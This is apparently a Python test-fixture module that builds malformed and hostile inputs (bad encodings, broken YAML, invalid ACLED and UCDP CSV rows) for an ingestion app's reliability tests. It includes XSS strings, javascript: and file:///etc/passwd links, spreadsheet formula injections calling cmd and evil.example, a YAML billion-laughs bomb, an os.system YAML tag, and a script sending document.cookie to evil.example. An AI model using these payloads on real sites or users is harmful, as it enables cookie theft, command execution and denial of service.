"""Hostile and malformed test material: payload strings and bad files in → bytes for tests out.

Shared by the reliability tests and anyone else's tests (browser, pages, exports): import
`XSS_PAYLOADS` to feed display paths, `BAD_ARTICLES` / `BAD_ACLED` / `BAD_UCDP` for batches.
Everything is generated in memory or in a tmp folder; nothing large is committed.
"""

from __future__ import annotations

import codecs
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

# Text an attacker can place in a title, a body, an actor, a place name, notes or a URL.
# Each must be shown literally wherever it is displayed and never run.
XSS_PAYLOADS: tuple[str, ...] = (
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "\"'><svg onload=alert(1)>",
    "`${alert(1)}` backtick template",
    "\\1 \\2 \\x3c backslash-digit sequences",
    "javascript:alert(1)",
    "</script><script>alert(1)</script>",
    "<iframe src=javascript:alert(1)></iframe>",
    "{{7*7}} ${7*7} template markers",
    "**bold** [link](javascript:alert(1)) markdown",
)

# One string that carries every payload, for fields where one value is all we get.
XSS_ALL = " | ".join(XSS_PAYLOADS)

# Links that must never become clickable (only http(s) may).
BAD_URLS: tuple[str, ...] = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
)

# Spreadsheet formula starters: exported cells beginning with these must be neutralised.
FORMULA_CELLS: tuple[str, ...] = (
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)

GOOD_SV = (
    "---\ntitle: Räd i Atme\ndate: 2022-02-03\nlanguage: sv\nsource: Testradion\n---\n"
    "Tidigt på torsdagsmorgonen genomförde amerikanska specialstyrkor en räd mot ett hus i Atme i "
    "nordvästra Syrien. Minst tretton personer dödades, enligt räddningstjänsten.\n"
)
GOOD_EN = (
    "---\ntitle: Car bomb in Mosul\ndate: 2023-05-14\nlanguage: en\n---\n"
    "At least three people were killed when a car bomb exploded in Mosul, Iraq, police said.\n"
)

_SV_LINE = "Räden i Åmål dödade två personer. Enligt polisen var det en attack mot staden Aleppo."


def billion_laughs(field: str) -> bytes:
    """Front matter whose `field` is an alias that expands to 9**9 strings when turned into text."""
    lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    prev = "a"
    for name in "bcdefghi":
        lines.append(f"{name}: &{name} [" + ",".join([f"*{prev}"] * 9) + "]")
        prev = name
    return ("---\n" + "\n".join(lines) + f"\n{field}: *i\n---\nClashes in Aleppo killed two fighters.\n").encode()


def _nested_html(depth: int) -> bytes:
    return (b"<html><head><title>Deep</title></head><body>" + b"<div>" * depth
            + b"Clashes in Aleppo killed two fighters, activists said." + b"</div>" * depth + b"</body></html>")


@dataclass(frozen=True)
class BadFile:
    """One malformed input: its file name, how to make its bytes, and what the user must see.

    problem: a phrase the one-line error must contain; None when the file must be accepted
    (then `keeps`, if set, is text the decoded article title must equal, proving it was read right).
    """

    case: str
    filename: str
    make: Callable[[], bytes]
    problem: str | None
    keeps: str | None = None
    body_has: str | None = None  # accepted files: text the body must contain, decoded correctly


def _const(data: bytes) -> Callable[[], bytes]:
    return lambda: data


BAD_ARTICLES: tuple[BadFile, ...] = (
    BadFile("empty", "empty.txt", _const(b""), "empty"),
    BadFile("only-newlines", "blank.md", _const(b"\n\r\n\n  \t\n"), "empty"),
    BadFile("png-as-txt", "photo.txt", _const(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 40), "binary"),
    BadFile("zip-as-md", "archive.md", _const(b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + bytes(range(256)) * 40), "binary"),
    BadFile("elf-as-html", "program.html", _const(b"\x7fELF\x02\x01\x01\x00" + bytes(range(256)) * 40), "binary"),
    BadFile("control-characters", "noise.txt", _const(bytes(range(1, 9)) * 500 + b"Aleppo"), "binary"),
    BadFile("invalid-utf8-bytes", "broken-utf8.txt",
            _const(b"---\ntitle: Trasig text\n---\n" + _SV_LINE.encode() + b" \xff\xfe\xc3\x28 " + _SV_LINE.encode()),
            None, "Trasig text", "Räden i Åmål"),
    BadFile("truncated-utf8", "truncated.txt",
            _const(b"---\ntitle: Avbruten\n---\n" + _SV_LINE.encode() + "å".encode()[:1]), None, "Avbruten",
            "Räden i Åmål"),
    BadFile("latin-1", "latin1.txt", _const(("---\ntitle: Räd i Åmål\n---\n" + _SV_LINE).encode("latin-1")),
            None, "Räd i Åmål"),
    BadFile("cp1252-quotes", "cp1252.txt", _const(("---\ntitle: ”Räd” – Åmål\n---\n" + _SV_LINE).encode("cp1252")),
            None, "”Räd” – Åmål"),
    BadFile("utf-16-le-bom", "utf16le.txt", _const(("---\ntitle: Räd i Åmål\n---\n" + _SV_LINE).encode("utf-16")),
            None, "Räd i Åmål"),
    BadFile("utf-16-be-bom", "utf16be.txt",
            _const(codecs.BOM_UTF16_BE + ("---\ntitle: Räd i Åmål\n---\n" + _SV_LINE).encode("utf-16-be")),
            None, "Räd i Åmål"),
    BadFile("utf-32-bom", "utf32.txt", _const(("---\ntitle: Räd i Åmål\n---\n" + _SV_LINE).encode("utf-32")),
            None, "Räd i Åmål", "Räden i Åmål"),
    BadFile("utf-16-bom-odd-length", "utf16-cut.txt", _const(("Räd i Åmål " * 20).encode("utf-16") + b"\x41"),
            "not valid"),
    BadFile("yaml-unknown-tag", "tag.md", _const(b"---\ntitle: !Ref secret\n---\nClashes in Aleppo."), "not valid YAML"),
    BadFile("yaml-python-name-tag", "pyname.md",
            _const(b"---\ntitle: !!python/name:os.system\n---\nClashes in Aleppo."), "not valid YAML"),
    BadFile("yaml-huge-key", "hugekey.md", _const(b"---\n" + b"k" * 200_000 + b": 1\ntitle: x\n---\nClashes in Aleppo."),
            "not valid YAML"),
    BadFile("yaml-title-is-mapping", "maptitle.md",
            _const(b"---\ntitle: {a: 1}\n---\nClashes in Aleppo killed two fighters."), "title"),
    BadFile("yaml-tabs-indent", "tabs.md", _const(b"---\ntitle: x\n\tdate: 2022-01-01\n---\nClashes in Aleppo."),
            "not valid YAML"),
    BadFile("front-matter-unterminated", "open.md",
            _const(b"---\ntitle: Open front matter\nClashes in Aleppo killed two fighters."), None, "open"),
    BadFile("date-feb-30", "feb30.md", _const(b"---\ndate: 2022-02-30\n---\nClashes in Aleppo."), "not a valid YYYY-MM-DD"),
    BadFile("date-year-zero", "year0.md", _const(b"---\ndate: 0000-01-01\n---\nClashes in Aleppo."), "not a valid YYYY-MM-DD"),
    BadFile("date-five-digit-year", "year5.md", _const(b"---\ndate: 20221-01-01\n---\nClashes in Aleppo."),
            "not a valid YYYY-MM-DD"),
    BadFile("date-words", "yesterday.md", _const(b"---\ndate: yesterday\n---\nClashes in Aleppo."), "not a valid YYYY-MM-DD"),
    BadFile("date-list", "datelist.md", _const(b"---\ndate: [2022, 2, 3]\n---\nClashes in Aleppo."), "date"),
    BadFile("html-only-script", "script.html", _const(
        b"<!doctype html><html><head><script>alert(1)</script><style>p{}</style></head>"
        b"<body><script>x=1</script></body></html>"), "no text"),
    BadFile("html-hostile", "hostile.html", _const(
        b"<!doctype html><html><head><title>&lt;img src=x onerror=alert(1)&gt;</title>"
        b"<script>document.location='http://evil.example/'+document.cookie</script></head>"
        b"<body onload=alert(1)><article><p>Clashes in Aleppo killed two fighters, activists said."
        b"<img src=x onerror=alert(2)><a href=\"javascript:alert(3)\">more</a></p></article></body></html>"),
        None, "<img src=x onerror=alert(1)>"),
    BadFile("html-deeply-nested", "deep.html", _const(_nested_html(20_000)), None, "Deep"),
    BadFile("html-as-txt", "page.txt", _const(
        b"<html><head><title>Named txt, really HTML</title></head><body><p>Clashes in Aleppo killed two "
        b"fighters, activists said.</p></body></html>"), None, "Named txt, really HTML"),
)

_ACLED_HEADER = ("event_id_cnty,event_date,year,time_precision,disorder_type,event_type,sub_event_type,actor1,"
                 "assoc_actor_1,inter1,actor2,assoc_actor_2,inter2,interaction,civilian_targeting,iso,region,"
                 "country,admin1,admin2,admin3,location,latitude,longitude,geo_precision,source,source_scale,"
                 "notes,fatalities,tags,timestamp")


def acled_row(event_id: str, *, date: str = "2022-02-03", lat: str = "36.3889", lon: str = "36.5847",
              fatalities: str = "13", notes: str = "US special forces raided a house in Atme.",
              location: str = "Atmeh", actor1: str = "Military Forces of the United States (2021-)") -> str:
    """One ACLED CSV line with the 31 columns of the current export; override the field under test."""
    def q(value: str) -> str:
        return '"' + value.replace('"', '""') + '"'

    return ",".join([
        event_id, date, date[:4], "1", "Political violence", "Battles", "Armed clash", q(actor1), "", "8",
        q("Islamic State (Syria)"), "", "2", "28", "", "760", "Middle East", "Syria", "Idlib", "Harim", "",
        q(location), lat, lon, "1", "Sveriges Radio", "International", q(notes), fatalities, "", "1700000000",
    ])


def acled_csv(*rows: str, header: str = _ACLED_HEADER) -> bytes:
    """An ACLED export: header plus rows, CRLF line ends as ACLED's own downloads have."""
    return ("\r\n".join([header, *rows]) + "\r\n").encode()


# Two valid rows every dataset case carries, so we can check that valid rows in a bad file still land.
ACLED_VALID_IDS = ("SYR900001", "SYR900002")
_VALID_ACLED = (acled_row("SYR900001"), acled_row("SYR900002", location="Afrin", lat="36.5119", lon="36.8694"))


def _acled(*bad_rows: str) -> Callable[[], bytes]:
    return lambda: acled_csv(_VALID_ACLED[0], *bad_rows, _VALID_ACLED[1])


@dataclass(frozen=True)
class BadDataset:
    """A dataset file with a problem; `whole_file` problems refuse the file, others skip rows.

    problem: phrase the message must contain; valid_ids: ids that must be stored afterwards.
    """

    case: str
    filename: str
    make: Callable[[], bytes]
    problem: str | None
    whole_file: bool = False
    valid_ids: tuple[str, ...] = ACLED_VALID_IDS


BAD_ACLED: tuple[BadDataset, ...] = (
    BadDataset("latitude-200", "lat200.csv", _acled(acled_row("SYR900003", lat="200")), "latitude"),
    BadDataset("longitude-minus-999", "lon999.csv", _acled(acled_row("SYR900003", lon="-999")), "longitude"),
    BadDataset("latitude-nan", "latnan.csv", _acled(acled_row("SYR900003", lat="nan")), "latitude"),
    BadDataset("latitude-text", "lattext.csv", _acled(acled_row("SYR900003", lat="north")), "latitude"),
    BadDataset("fatalities-words", "fatwords.csv", _acled(acled_row("SYR900003", fatalities="many")), "fatalities"),
    BadDataset("fatalities-negative", "fatneg.csv", _acled(acled_row("SYR900003", fatalities="-5")), "fatalities"),
    BadDataset("date-feb-30", "feb30.csv", _acled(acled_row("SYR900003", date="2022-02-30")), "date"),
    BadDataset("date-garbage", "dategarbage.csv", _acled(acled_row("SYR900003", date="soon")), "date"),
    BadDataset("missing-id", "noid.csv", _acled(acled_row("")), "event_id_cnty"),
    BadDataset("short-row", "short.csv", _acled("SYR900003,2022-02-03,2022"), "column"),
    BadDataset("missing-columns", "nolatlon.csv", _const(acled_csv(
        "SYR900001,2022-02-03,Battles,Atmeh", header="event_id_cnty,event_date,event_type,location")),
        "latitude", whole_file=True, valid_ids=()),
    BadDataset("semicolon-delimiter", "semicolon.csv",
               lambda: acled_csv(*_VALID_ACLED).replace(b",", b";"), None, whole_file=True),
    BadDataset("tab-delimiter", "tabs.csv", lambda: acled_csv(*_VALID_ACLED).replace(b",", b"\t"), None, whole_file=True),
    BadDataset("empty-file", "empty.csv", _const(b""), "empty", whole_file=True, valid_ids=()),
    BadDataset("binary-file", "binary.csv", _const(b"\x89PNG\r\n\x1a\n\x00\x00" + bytes(range(256)) * 40), "",
               whole_file=True, valid_ids=()),
    BadDataset("html-as-csv", "page.csv", _const(b"<html><body><script>alert(1)</script>Not a CSV</body></html>"),
               "", whole_file=True, valid_ids=()),
    BadDataset("utf8-bom", "bom.csv", lambda: codecs.BOM_UTF8 + acled_csv(*_VALID_ACLED), None),
    BadDataset("utf-16-excel", "utf16.csv", lambda: acled_csv(*_VALID_ACLED).decode().encode("utf-16"), None,
               whole_file=True),
    BadDataset("field-over-csv-limit", "hugefield.csv", _acled(acled_row("SYR900003", notes="x" * 300_000)), ""),
    # An unclosed quote in the last row: the rows before it land, the broken row is named.
    BadDataset("unbalanced-quote", "quote.csv",
               lambda: acled_csv(_VALID_ACLED[0], _VALID_ACLED[1], 'SYR900003,2022-02-03,"unclosed'), "row"),
    BadDataset("duplicate-ids", "dupes.csv", _acled(acled_row("SYR900001", fatalities="14")), None),
)

_UCDP_HEADER = ("id,relid,year,active_year,code_status,type_of_violence,conflict_dset_id,conflict_new_id,"
                "conflict_name,dyad_dset_id,dyad_new_id,dyad_name,side_a_dset_id,side_a_new_id,side_a,"
                "side_b_dset_id,side_b_new_id,side_b,number_of_sources,source_article,source_office,source_date,"
                "source_headline,source_original,where_prec,where_coordinates,where_description,adm_1,adm_2,"
                "latitude,longitude,geom_wkt,priogrid_gid,country,country_id,region,event_clarity,date_prec,"
                "date_start,date_end,deaths_a,deaths_b,deaths_civilians,deaths_unknown,best,high,low")


def ucdp_row(event_id: str, *, lat: str = "36.3889", lon: str = "36.5847", best: str = "13",
             date_start: str = "2022-02-03", date_end: str = "2022-02-03") -> str:
    """One UCDP GED CSV line; override the field under test."""
    return ",".join([
        event_id, f"SYR-2022-1-{event_id}", "2022", "1", "Clear", "1", "299", "299", "Syria: Government",
        "411", "411", "Government of Syria - Syrian insurgents", "97", "97", "Government of Syria", "1", "1",
        "Syrian insurgents", "1", '"Sveriges Radio 2022-02-03"', "", "", "", "", "1", "Atmeh", "Atmeh village",
        "Idlib governorate", "Harim district", lat, lon, f'"POINT ({lon} {lat})"', "", "Syria", "652",
        "Middle East", "1", "1", date_start, date_end, "2", "1", "10", "0", best, "15", "13",
    ])


UCDP_VALID_IDS = ("990001", "990002")


def _ucdp(*bad_rows: str) -> Callable[[], bytes]:
    return lambda: ("\r\n".join([_UCDP_HEADER, ucdp_row("990001"), *bad_rows, ucdp_row("990002")]) + "\r\n").encode()


BAD_UCDP: tuple[BadDataset, ...] = (
    BadDataset("ucdp-latitude-200", "u-lat200.csv", _ucdp(ucdp_row("990003", lat="200")), "latitude",
               valid_ids=UCDP_VALID_IDS),
    BadDataset("ucdp-best-not-a-number", "u-best.csv", _ucdp(ucdp_row("990003", best="n/a")), "best",
               valid_ids=UCDP_VALID_IDS),
    BadDataset("ucdp-impossible-date", "u-date.csv", _ucdp(ucdp_row("990003", date_start="2022-13-01")), "date",
               valid_ids=UCDP_VALID_IDS),
    BadDataset("ucdp-missing-columns", "u-cols.csv", _const(b"id,year,best\r\n1,2022,3\r\n"), "latitude",
               whole_file=True, valid_ids=()),
    BadDataset("ucdp-duplicate-ids", "u-dupes.csv", _ucdp(ucdp_row("990001", best="14")), None,
               valid_ids=UCDP_VALID_IDS),
)


def write(tmp: Path, name: str, data: bytes) -> Path:
    """Write `data` under `tmp` and return the path (tests keep their inputs in tmp_path)."""
    path = tmp / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    return path
